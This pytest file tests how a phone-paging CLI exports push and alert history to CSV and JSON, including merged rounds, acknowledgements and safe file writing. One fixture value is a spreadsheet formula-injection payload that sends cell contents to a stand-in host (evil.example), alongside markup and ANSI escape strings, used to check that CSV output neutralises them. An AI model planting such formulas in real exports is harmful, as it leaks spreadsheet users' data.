"""Exporting results for a change ticket: an alert's rounds merged, acknowledgements, hostile values as data."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from phonetui.cli import main
from phonetui.export import COLUMNS

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKUP = "[/] oops [red]x"
ANSI = "\x1b[31mred\x1b[0m"
T0 = 1_764_500_000.0  # 2025-11-30 10:53:20 UTC


def start(push: str, when: float, names: list[str], **label: Any) -> dict[str, Any]:
    targets = [{"phone": n, "host": f"10.0.0.{i + 1}:80", "mode": "direct"} for i, n in enumerate(names)]
    return {"event": "start", "push": push, "time": when, "object": "CiscoIPPhoneText", "xml": "",
            "targets": targets, **label}  # fmt: skip


def result(push: str, phone: str, outcome: str, detail: str = "Success", latency: int | None = 12) -> dict[str, Any]:
    return {"event": "result", "push": push, "phone": phone, "host": "ignored", "outcome": outcome,
            "detail": detail, "latency_ms": latency}  # fmt: skip


def end(push: str) -> dict[str, Any]:
    return {"event": "end", "push": push, "cancelled": False, "interrupted": False}


@pytest.fixture
def journal(tmp_path: Path) -> Path:
    """Alert a1 in two rounds (a phone whose name is a formula, hostile details), its acks, then a plain push."""
    names = ["lobby", FORMULA, "-kitchen", "down"]
    records = [
        start("r1push000001", T0, names, alert="a1", round=0),
        result("r1push000001", "lobby", "ok", MARKUP),
        result("r1push000001", FORMULA, "ok", "@SUM(1+1)"),
        result("r1push000001", "-kitchen", "timeout", ANSI, None),
        result("r1push000001", "down", "unreachable", "+cannot connect"),
        end("r1push000001"),
        {"event": "ack", "alert": "a1", "phone": "lobby", "time": T0 + 30},
        {"event": "ack", "alert": "a1", "phone": "lobby", "time": T0 + 45},  # pressed twice: the first counts
        {"event": "ack", "alert": "other", "phone": "down", "time": T0 + 50},  # another alert's
        start("r2push000002", T0 + 60, ["-kitchen", "down"], alert="a1", round=1),
        result("r2push000002", "-kitchen", "ok", "Success", 40),
        result("r2push000002", "down", "timeout", "no reply within 1 s", None),
        end("r2push000002"),
        {"event": "ack", "alert": "a1", "phone": "-kitchen", "time": T0 + 90},
        start("plainpush003", T0 + 120, ["lobby"]),
        result("plainpush003", "lobby", "ok"),
        end("plainpush003"),
    ]
    path = tmp_path / "history.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    return path


def iso(stamp: float) -> str:
    return datetime.fromtimestamp(stamp).astimezone().isoformat(timespec="seconds")


def ack_iso(stamp: float) -> str:
    """An acknowledgement's time as exports write it: to the millisecond, as ``push --ack --json``."""
    return datetime.fromtimestamp(stamp).astimezone().isoformat(timespec="milliseconds")


def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    code = main(list(args))
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def test_an_alert_as_csv_each_phone_once_with_its_best_round_and_first_ack(
    journal: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(capsys, "history", "--history", str(journal), "--export", "csv", "--alert", "a1")
    assert code == 0, err
    table = list(csv.reader(io.StringIO(out)))
    assert tuple(table[0]) == COLUMNS
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in table[1:]}
    assert len(table) == 5 and len(rows) == 4  # each phone once
    assert rows["lobby"]["outcome"] == "ok" and rows["lobby"]["acked_at"] == ack_iso(T0 + 30)
    assert rows["lobby"]["detail"] == MARKUP and rows["lobby"]["latency_ms"] == "12"
    assert rows["lobby"]["address"] == "ignored" and rows["lobby"]["time"] == iso(T0)
    kitchen = rows["'-kitchen"]  # a name that starts like a formula gets the leading '
    assert (kitchen["outcome"], kitchen["round"], kitchen["push"]) == ("ok", "2", "r2push000002")
    assert kitchen["acked_at"] == ack_iso(T0 + 90) and kitchen["latency_ms"] == "40"
    down = rows["down"]
    assert (down["outcome"], down["round"], down["acked_at"]) == ("timeout", "2", "")  # the latest failure
    assert down["latency_ms"] == "" and down["detail"] == "no reply within 1 s"
    evil = rows["'" + FORMULA]
    assert evil["detail"] == "'@SUM(1+1)" and evil["acked_at"] == ""
    assert "+00:00" in iso(T0) or "+" in evil["time"] or "-" in evil["time"][19:]  # an offset is written


def test_an_alert_as_json_keeps_every_value_as_data(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = run(capsys, "history", "--history", str(journal), "--export", "json", "--alert", "a1")
    assert code == 0, err
    rows = {row["phone"]: row for row in json.loads(out)}
    assert set(rows) == {"lobby", FORMULA, "-kitchen", "down"}
    assert set(rows["lobby"]) == set(COLUMNS)
    assert rows[FORMULA]["detail"] == "@SUM(1+1)"  # JSON is data: no guard
    assert rows["lobby"]["detail"] == MARKUP and rows["lobby"]["acked_at"] == ack_iso(T0 + 30)
    assert rows["down"]["acked_at"] is None and rows["down"]["latency_ms"] is None
    assert rows["-kitchen"]["round"] == 2 and rows["-kitchen"]["acked_at"] == ack_iso(T0 + 90)


def test_one_push_the_last_push_and_a_prefix(journal: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run(capsys, "history", "--history", str(journal), "--export", "json", "--push", "r1push")
    assert code == 0
    rows = json.loads(out)
    assert [r["phone"] for r in rows] == ["lobby", FORMULA, "-kitchen", "down"]  # a round's own rows
    assert rows[0]["acked_at"] == ack_iso(T0 + 30) and rows[2]["outcome"] == "timeout"
    assert rows[2]["detail"] == ANSI  # kept as it was
    assert "\\u001b" in out and "\x1b" not in out  # escaped in the JSON text, never sent raw
    code, out, _ = run(capsys, "history", "--history", str(journal), "--export", "csv")  # default: the last push
    assert code == 0 and out.splitlines()[1].startswith("lobby,ignored,ok,Success,12,,plainpush003,,")
    code, _, err = run(capsys, "history", "--history", str(journal), "--export", "csv", "--push", "nope")
    assert code == 1 and "no push 'nope'" in err


def test_out_writes_a_file_and_never_overwrites_without_force(
    journal: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "ticket.csv"
    args = ["history", "--history", str(journal), "--export", "csv", "--push", "r1", "--out", str(out)]
    assert run(capsys, *args)[0] == 0
    first = out.read_bytes()
    assert first.startswith(b"phone,address,outcome") and b"\x1b[31m" in first  # data, byte for byte
    out.write_text("keep me")
    code, _, err = run(capsys, *args)
    assert code == 2 and "--force" in err and out.read_text() == "keep me"
    assert run(capsys, *args, "--force")[0] == 0 and out.read_bytes() == first
    blocked = tmp_path / "a-file"
    blocked.write_text("not a folder")
    code, _, err = run(capsys, *args[:-1], str(blocked / "x.csv"))
    assert code == 1 and "cannot write" in err and "no such folder" in err and "Traceback" not in err
    assert blocked.read_text() == "not a folder"


def test_out_never_makes_folders_nor_replaces_what_is_not_a_file(
    journal: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """A typo in a folder is an error, and --force never renames a file over a pipe, a device or a link."""
    import os

    args = ["history", "--history", str(journal), "--export", "csv", "--push", "r1", "--force", "--out"]
    code, _, err = run(capsys, *args, str(tmp_path / "nonexist" / "a.csv"))
    assert code == 1 and "no such folder" in err and not (tmp_path / "nonexist").exists()
    pipe = tmp_path / "fifo"
    os.mkfifo(pipe)
    target = tmp_path / "real.csv"
    target.write_text("keep me")
    link = tmp_path / "link.csv"
    link.symlink_to(target)
    for path in (pipe, link, tmp_path):
        code, _, err = run(capsys, *args, str(path))
        assert code == 1 and "not a regular file" in err, path
    assert pipe.is_fifo() and link.is_symlink() and target.read_text() == "keep me"
    code, out, _ = run(capsys, *args, "-")
    assert code == 0 and out.startswith("phone,address,outcome") and not (Path.cwd() / "-").exists()


def test_history_lists_recent_pushes_with_their_kind_and_alert(
    journal: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = run(capsys, "history", "--history", str(journal), "--last", "2")
    assert code == 0
    header, newest, older = out.splitlines()
    assert header.split()[:4] == ["TIME", "PUSH", "KIND", "PHONES"]
    assert "plainpush003" in newest and " push " in newest and "1 ok" in newest
    assert "r2push000002" in older and "alert r2" in older and "1 ok, 1 timeout" in older and "alert a1" in older
    code, _, err = run(capsys, "history", "--history", str(journal), "--out", "x.csv")
    assert code == 2 and "--export" in err


def test_an_alert_by_a_unique_prefix_and_an_ambiguous_one_names_the_candidates(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """``--alert`` takes the first characters of an id as ``--push`` does; too few is a usage error."""
    records = []
    for number, alert in enumerate(("kQ3xAlpha", "kQ3yBravo", "zz9Charlie")):
        push = f"push{number:08d}"
        records += [start(push, T0 + 60 * number, ["lobby"], alert=alert, round=0), result(push, "lobby", "ok")]
        records.append(end(push))
    path = tmp_path / "h.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    code, out, err = run(capsys, "history", "--history", str(path), "--export", "json", "--alert", "zz9")
    assert code == 0, err
    assert [r["push"] for r in json.loads(out)] == ["push00000002"]
    code, out, err = run(capsys, "history", "--history", str(path), "--export", "json", "--alert", "kQ3")
    assert code == 2 and out == "" and len(err.strip().splitlines()) == 1
    assert "2 alerts begin with 'kQ3': kQ3yBravo (" in err and ", kQ3xAlpha (" in err and "give more" in err
    code, _, err = run(capsys, "history", "--history", str(path), "--export", "json", "--alert", "nope")
    assert code == 1 and "no alert 'nope'" in err
    code, _, err = run(capsys, "history", "--history", str(path), "--export", "json", "--push", "push0")
    assert code == 2 and "3 pushes begin with 'push0': push00000002 (" in err


def test_acked_at_has_milliseconds_as_push_json_and_json_has_null_exactly_where_csv_is_empty(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    records = [
        start("p1", T0, ["lobby", "hall"], alert="a1", round=0),
        result("p1", "lobby", "ok"),
        result("p1", "hall", "timeout", "no reply", None),
        end("p1"),
        {"event": "ack", "alert": "a1", "phone": "lobby", "time": T0 + 30.25},
        {"event": "ack", "alert": "a1", "phone": "stray", "time": T0 + 31},  # no round lists it
    ]
    path = tmp_path / "h.jsonl"
    path.write_text("".join(json.dumps(r) + "\n" for r in records))
    _, out, _ = run(capsys, "history", "--history", str(path), "--export", "csv", "--alert", "a1")
    table = [dict(zip(COLUMNS, row, strict=True)) for row in list(csv.reader(io.StringIO(out)))[1:]]
    by_name = {row["phone"]: row for row in table}
    when = datetime.fromtimestamp(T0 + 30.25).astimezone().isoformat(timespec="milliseconds")
    assert by_name["lobby"]["acked_at"] == when and ".250" in when
    _, out, _ = run(capsys, "history", "--history", str(path), "--export", "json", "--alert", "a1")
    rows = {row["phone"]: row for row in json.loads(out)}
    assert rows["lobby"]["acked_at"] == when
    for name, csv_row in by_name.items():  # null in JSON exactly where CSV has an empty cell, but text
        for column, cell in csv_row.items():
            if column in ("phone", "address", "outcome", "detail"):
                assert isinstance(rows[name][column], str)
            else:
                assert (rows[name][column] is None) == (cell == ""), (name, column)
